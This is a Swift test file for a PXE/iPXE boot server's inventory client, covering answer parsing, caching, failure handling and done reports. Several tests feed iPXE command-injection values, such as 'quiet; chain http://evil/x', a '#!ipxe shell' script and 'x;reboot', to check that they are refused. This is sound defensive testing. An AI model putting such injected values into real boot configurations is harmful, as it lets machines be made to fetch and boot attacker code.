import Glibc
import Logging
import StampedeDHCP
import StampedeFiles
import StampedeHTTPWire
import StampedeIO
import StampedeTestSupport
import Synchronization
import Testing
@testable import StampedeMachines

/// The site's inventory (`--machines-api`): pixiecore's answers read as records (their values data,
/// never code), and the calls' cache, coalescing and failure policy.
@Suite struct Inventory {
    let node07: [UInt8] = [0x52, 0x54, 0, 0x12, 0x34, 0x07]
    let api = "http://10.0.0.9:8080/pixiecore"

    func answer(_ json: String) -> Result<MachineRecord, InventoryAnswer.Refused> {
        InventoryAnswer.record(Array(json.utf8), mac: node07, api: api)
    }

    @Test func pixiecoresDocumentedAnswersAreReadAsTheyMean() throws {
        let absolute = try answer(#"{"kernel": "https://files.local/kernel", "initrd": ["https://files.local/initrd"], "cmdline": "selinux=1 coreos.autologin"}"#).get()
        #expect(absolute.boot == RenderedBoot(kernel: "https://files.local/kernel", initrds: ["https://files.local/initrd"], commandLine: "selinux=1 coreos.autologin"))
        #expect(absolute.action == .boot && absolute.name == "machines-api" && absolute.selectors.map(\.selector) == [.hardwareAddress(node07)])
        // A path is the API server's, not beneath its prefix; a relative name is its directory's.
        let paths = try answer(#"{"kernel": "/kernel", "initrd": ["/initrd.0", "initrd.1"]}"#).get()
        #expect(paths.boot?.kernel == "http://10.0.0.9:8080/kernel")
        #expect(paths.boot?.initrds == ["http://10.0.0.9:8080/initrd.0", "http://10.0.0.9:8080/initrd.1"])
        #expect(paths.boot?.commandLine == "")
        // {{ URL "…" }} names a URL; the object form's keys in order.
        let template = try answer(#"{"kernel": "/k", "cmdline": "cloud-config-url={{ URL \"/cloud-config\" }} other=https://files.local/x"}"#).get()
        #expect(template.boot?.commandLine == "cloud-config-url=http://10.0.0.9:8080/cloud-config other=https://files.local/x")
        let object = try answer(#"{"kernel": "/k", "cmdline": {"quiet": true, "root": "/dev/sda1", "config": {"url": "/c"}, "off": false}}"#).get()
        #expect(object.boot?.commandLine == "config=http://10.0.0.9:8080/c quiet root=/dev/sda1")
        let matchbox = answer(#"{"kernel": "/assets/fedora-coreos/kernel", "initrd": ["--name main /assets/x"], "args": ["ip=dhcp", "rd.neednet=1"]}"#)
        #expect(matchbox.map(\.boot?.commandLine) == .failure(.init(description: "initrd --name main /assets/x: holds a character a loader's script would read (a location takes letters, digits and -._~:/?#[]@!*+,=%)")))
        let args = try answer(#"{"kernel": "/assets/kernel", "args": ["ip=dhcp", "rd.neednet=1"]}"#).get()
        #expect(args.boot?.commandLine == "ip=dhcp rd.neednet=1")
        let message = try answer(#"{"kernel": "/k", "message": "Booting rack 7, please wait..."}"#).get()
        #expect(message.boot?.message == "Booting rack 7, please wait...")
        #expect(LoaderScript.iPXE(message.boot, for: message.name).contains("echo Booting rack 7, please wait...\nkernel http://10.0.0.9:8080/k\n"))
    }

    @Test func anAnswerThatWouldBeCodeInALoadersScriptIsRefused() {
        func refused(_ json: String) -> String? {
            if case .failure(let why) = answer(json) { return why.description }
            return nil
        }
        #expect(refused(#"{"kernel": "/k", "cmdline": "quiet; chain http://evil/x"}"#)?.contains("cmdline") == true)
        #expect(refused(#"{"kernel": "/k", "cmdline": "a\nkernel http://evil/x"}"#) != nil)
        #expect(refused(#"{"kernel": "/k", "cmdline": "${net0/ip}"}"#) != nil)
        #expect(refused(#"{"kernel": "/k", "cmdline": "{{ ID \"x\" }}"}"#)?.contains("only {{ URL") == true)
        #expect(refused(#"{"kernel": "/k", "cmdline": {"a": "b c;d"}}"#) != nil)
        #expect(refused(#"{"kernel": "http://x/k\nboot"}"#) != nil)
        #expect(refused(#"{"kernel": "/k", "initrd": ["/i nitrd"]}"#) != nil)
        #expect(refused(#"{"kernel": "file:///mnt/data/kernel"}"#)?.contains("file://") == true)
        #expect(refused(#"{"kernel": "/k", "message": "${x}"}"#)?.contains("message") == true)
        #expect(refused(##"{"ipxe-script": "#!ipxe\nshell\n"}"##)?.contains("ipxe-script") == true)
        #expect(refused(#"{"initrd": ["/i"]}"#) == "no kernel")
        #expect(refused(#"{"kernel": "/k""#)?.hasPrefix("not JSON") == true)
        #expect(refused(#"["kernel"]"#) == "not a JSON object")
    }

    /// A fake API: what it was asked, what it answers, and a gate that holds its calls.
    final class FakeAPI: Sendable {
        let asked = Mutex<[String]>([])
        let answers = Mutex<[String: Result<HTTPClient.Answer, HTTPClient.Failure>]>([:])
        let held = Atomic<Bool>(false)
        let now = Atomic<Int64>(1000)

        func set(_ mac: String, _ answer: Result<HTTPClient.Answer, HTTPClient.Failure>) { answers.withLock { $0[mac] = answer } }

        func fetch(_ url: String, _ method: String, _ timeout: Int) throws(HTTPClient.Failure) -> HTTPClient.Answer {
            while held.load(ordering: .relaxed) { usleep(1000) }
            asked.withLock { $0.append("\(method) \(url)") }
            let mac = String(url.split(separator: "/").last!.prefix { $0 != "?" })
            let answer = answers.withLock { $0[mac] } ?? .success(HTTPClient.Answer(status: 404, body: []))
            return try answer.get()
        }
    }

    func inventory(_ fake: FakeAPI, lifetime: Int = 60) -> MachineInventory {
        let inventory = MachineInventory(url: api + "/", lifetime: lifetime, fetch: { (url, method, timeout) throws(HTTPClient.Failure) in try fake.fetch(url, method, timeout) },
                                         clock: { fake.now.load(ordering: .relaxed) })
        inventory.start(logger: Logger(label: "test"))
        return inventory
    }

    /// Asks until the inventory says something (it answers on its own threads).
    func said(_ inventory: MachineInventory, _ machine: MachineIdentity) -> MachineInventory.Said? {
        for _ in 0..<500 {
            if let said = inventory.said(of: machine, stage: .dhcp) { return said }
            usleep(2000)
        }
        return nil
    }

    let booting = HTTPClient.Answer(status: 200, body: Array(#"{"kernel": "/vmlinuz", "cmdline": "role=worker"}"#.utf8))

    @Test func anAnswerIsAskedOnceKeptForItsLifetimeAndRenewedByABootAfterHalfOfIt() throws {
        let fake = FakeAPI()
        fake.set("52:54:00:12:34:07", .success(booting))
        let inventory = inventory(fake)
        defer { inventory.stop() }
        // The IPv4 proxy's and the DHCPv6 responder's: each is told of every answer.
        let watches = [inventory.watch(), inventory.watch()]
        let machine = MachineIdentity(hardwareAddress: node07, uuid: "8d3a0b1e-0000-4000-8000-000000000007", firmware: .efiX64, architecture: 7)
        // Many asks while the call is out: one call, and nothing said until it answers.
        fake.held.store(true, ordering: .relaxed)
        for _ in 0..<50 { #expect(inventory.said(of: machine, stage: .dhcp, relay: IPv4(10, 9, 0, 1)) == nil) }
        fake.held.store(false, ordering: .relaxed)
        guard case .record(let record)? = said(inventory, machine) else { Issue.record("no answer"); return }
        #expect(record.boot?.kernel == "http://10.0.0.9:8080/vmlinuz" && record.boot?.commandLine == "role=worker")
        #expect(fake.asked.withLock { $0 } == ["GET \(api)/v1/boot/52:54:00:12:34:07?arch=7&uuid=8d3a0b1e-0000-4000-8000-000000000007&giaddr=10.9.0.1&stage=dhcp"])
        // Each watch is told: its eventfd, and which machines; taking them reads the eventfd empty.
        for watch in watches {
            var watched = pollfd(fd: watch.wake, events: Int16(POLLIN), revents: 0)
            #expect(poll(&watched, 1, 0) == 1)
            #expect(watch.take() == [node07] && watch.take().isEmpty)
            #expect(poll(&watched, 1, 0) == 0)
        }
        // Kept: no call before half its lifetime; after, answered from memory and asked behind it.
        fake.now.store(1029, ordering: .relaxed)
        #expect(inventory.said(of: machine, stage: .dhcp) == .record(record))
        usleep(20_000)
        #expect(fake.asked.withLock { $0.count } == 1)
        // Past it, a loader's request within a boot (iPXE's DHCP, its script) renews nothing: no call.
        fake.now.store(1031, ordering: .relaxed)
        #expect(inventory.said(of: machine, stage: .dhcp, renews: false) == .record(record))
        #expect(inventory.said(of: machine, stage: .script, renews: false) == .record(record))
        usleep(20_000)
        #expect(fake.asked.withLock { $0.count } == 1)
        // A firmware starting a boot renews it: answered from memory, asked again behind it.
        #expect(inventory.said(of: machine, stage: .dhcp) == .record(record))
        for _ in 0..<500 where fake.asked.withLock({ $0.count }) < 2 { usleep(2000) }
        #expect(fake.asked.withLock { $0.last } == "GET \(api)/v1/boot/52:54:00:12:34:07?arch=7&uuid=8d3a0b1e-0000-4000-8000-000000000007&stage=dhcp")
        #expect(inventory.counts[.listed] == 2)
    }

    /// Each call for a machine's boot is timed, from its request to its answer, for the metrics;
    /// taking the times empties them.
    @Test func eachCallIsTimedFromItsRequestToItsAnswer() {
        let fake = FakeAPI()
        fake.set("52:54:00:12:34:07", .success(booting))
        let inventory = inventory(fake)
        defer { inventory.stop() }
        let machine = MachineIdentity(hardwareAddress: node07, uuid: nil, firmware: .efiX64, architecture: 7)
        fake.held.store(true, ordering: .relaxed)
        #expect(inventory.said(of: machine, stage: .dhcp) == nil)
        usleep(50_000)
        fake.held.store(false, ordering: .relaxed)
        #expect(said(inventory, machine) != nil)
        let unlisted = MachineIdentity(hardwareAddress: [0x52, 0x54, 0, 0x12, 0x34, 0x08], uuid: nil, firmware: .efiX64, architecture: 7)
        #expect(said(inventory, unlisted) == .notListed)
        let times = inventory.takeCallTimes()
        #expect(times.count == 2)
        // The held call: it waited in the fake API, queued at the first ask; the second was asked
        // after it and answered at once.
        #expect(times.first.map { $0.call >= 50_000_000 && $0.call < 2_000_000_000 && $0.waited >= $0.call } == true, "\(times)")
        #expect(times.last.map { $0.call < 50_000_000 && $0.waited >= $0.call } == true, "\(times)")
        #expect(inventory.takeCallTimes().isEmpty)
    }

    /// A watch wakes its watcher once for the answers that came before it took them, and again
    /// for one after.
    @Test func aWatchWakesOnceForTheAnswersBeforeATake() {
        let watch = InventoryWatch()
        var watched = pollfd(fd: watch.wake, events: Int16(POLLIN), revents: 0)
        #expect(poll(&watched, 1, 0) == 0)
        watch.tell([1])
        watch.tell([2])
        var count: UInt64 = 0
        #expect(read(watch.wake, &count, 8) == 8 && count == 1)  // one wake for both
        #expect(watch.take() == [[1], [2]])
        watch.tell([3])
        #expect(poll(&watched, 1, 0) == 1)
        #expect(watch.take() == [[3]] && poll(&watched, 1, 0) == 0)
    }

    @Test func aMachineNotListedIsKeptSoAndAnUnreachableAPIKeepsTheLastAnswerUntilItExpires() throws {
        let fake = FakeAPI()
        let inventory = inventory(fake, lifetime: 20)
        defer { inventory.stop() }
        let machine = MachineIdentity(hardwareAddress: node07)
        #expect(said(inventory, machine) == .notListed)
        #expect(inventory.said(of: machine, stage: .dhcp) == .notListed)
        usleep(20_000)
        #expect(fake.asked.withLock { $0.count } == 1, "a negative answer is kept too")
        // Listed now, and then the API goes away.
        fake.set("52:54:00:12:34:07", .success(booting))
        fake.now.store(1021, ordering: .relaxed)
        guard case .record(let record)? = said(inventory, machine) else { Issue.record("no answer"); return }
        fake.set("52:54:00:12:34:07", .failure(HTTPClient.Failure(description: "cannot connect: Connection refused")))
        fake.now.store(1032, ordering: .relaxed)  // past half: asked again, unreachable, the answer kept
        #expect(inventory.said(of: machine, stage: .dhcp) == .record(record))
        for _ in 0..<500 where inventory.counts[.unreachable] == 0 { usleep(2000) }
        #expect(inventory.said(of: machine, stage: .dhcp) == .record(record))
        fake.now.store(1041, ordering: .relaxed)  // expired: asked, and unreachable it is
        #expect(said(inventory, machine) == .unreachable)
        let calls = fake.asked.withLock { $0.count }
        #expect(inventory.said(of: machine, stage: .dhcp) == .unreachable, "an unreachable API is not asked at every request")
        usleep(20_000)
        #expect(fake.asked.withLock { $0.count } == calls)
        // A 5xx is the API down too.
        fake.set("52:54:00:12:34:07", .success(HTTPClient.Answer(status: 503, body: [])))
        fake.now.store(1047, ordering: .relaxed)
        #expect(said(inventory, machine) == .unreachable)
        #expect(inventory.counts[.unreachable]! >= 3 && inventory.counts[.notListed] == 1)
    }

    @Test func aRefusedAnswerLeavesTheMachineAloneAndDoneIsToldToTheAPI() throws {
        let fake = FakeAPI()
        fake.set("52:54:00:12:34:07", .success(HTTPClient.Answer(status: 200, body: Array(#"{"kernel": "/k", "cmdline": "x;reboot"}"#.utf8))))
        let inventory = inventory(fake)
        defer { inventory.stop() }
        let machine = MachineIdentity(hardwareAddress: node07)
        guard case .record(let record)? = said(inventory, machine) else { Issue.record("no answer"); return }
        #expect(record.action == .ignore && record.choice(over: BootMenu([:])) == .leaveAlone(.ignored(record: "machines-api")))
        #expect(inventory.counts[.refused] == 1)
        inventory.done(node07)
        for _ in 0..<500 where fake.asked.withLock({ $0.count }) < 2 { usleep(2000) }
        #expect(fake.asked.withLock { $0.last } == "POST \(api)/v1/done/52:54:00:12:34:07")
        #expect(inventory.said(of: machine, stage: nil) == nil, "its answer is forgotten")
    }

    @Test func theAPIComesBeforeTheDirectoryWhichHasWhatItDoesNotList() throws {
        let dir = ScratchDirectory()
        _ = dir.write("default", Array("default = yes\nkernel = rescue\n".utf8))
        let fake = FakeAPI()
        fake.set("52:54:00:12:34:07", .success(booting))
        let inventory = inventory(fake)
        defer { inventory.stop() }
        let records = try MachineRecords(try MachineDirectory(dir.path), unknown: .ignore, inventory: inventory)
        let boot = MachineBoot(records: records, bindings: MachineBindings(), httpBase: "http://10.0.0.1:8080/")
        let listed = MachineIdentity(hardwareAddress: node07, firmware: .efiX64, architecture: 7)
        let other = MachineIdentity(hardwareAddress: [0x52, 0x54, 0, 0x12, 0x34, 0x08], firmware: .efiX64, architecture: 7)
        boot.bindings.learn(IPv4(10, 0, 0, 57), is: listed)
        boot.bindings.learn(IPv4(10, 0, 0, 58), is: other)
        let at57 = SocketAddress(parsing: "10.0.0.57:2000", defaultPort: 0)!
        func script(_ client: SocketAddress) -> String {
            guard case .made(let bytes)? = boot.file(Array("boot.ipxe".utf8), for: client) else { return "" }
            return String(decoding: bytes, as: UTF8.self)
        }
        // While the API is asked, iPXE waits and asks again; then gets the API's boot.
        fake.held.store(true, ordering: .relaxed)
        #expect(records.record(for: listed, asking: .dhcp) == nil)
        #expect(script(at57) == "#!ipxe\n# the machine API is being asked what this machine boots\nsleep 1\nchain --replace --autofree boot.ipxe\n")
        fake.held.store(false, ordering: .relaxed)
        for _ in 0..<500 where records.record(for: listed, asking: .dhcp) == nil { usleep(2000) }
        #expect(script(at57).contains("kernel http://10.0.0.9:8080/vmlinuz role=worker\n"))
        // Not listed (404): the directory's default record.
        for _ in 0..<500 where records.record(for: other, asking: .dhcp) == nil { usleep(2000) }
        #expect(records.record(for: other, asking: .dhcp)?.record?.name == dir.path + "/default")
        #expect(script(SocketAddress(parsing: "10.0.0.58:2000", defaultPort: 0)!).contains("kernel /rescue"))
        // Its done URL is the API's to hear.
        let token = records.directory.tokens.token(for: node07)
        #expect(boot.report(to: Array(".stampede/done/52-54-00-12-34-07/\(token)".utf8), from: at57) != nil)
        for _ in 0..<500 where fake.asked.withLock({ $0.last?.hasPrefix("POST") != true }) { usleep(2000) }
        #expect(fake.asked.withLock { $0.last } == "POST \(api)/v1/done/52:54:00:12:34:07")
        #expect(records.current.done.isEmpty, "nothing kept here")
    }
}
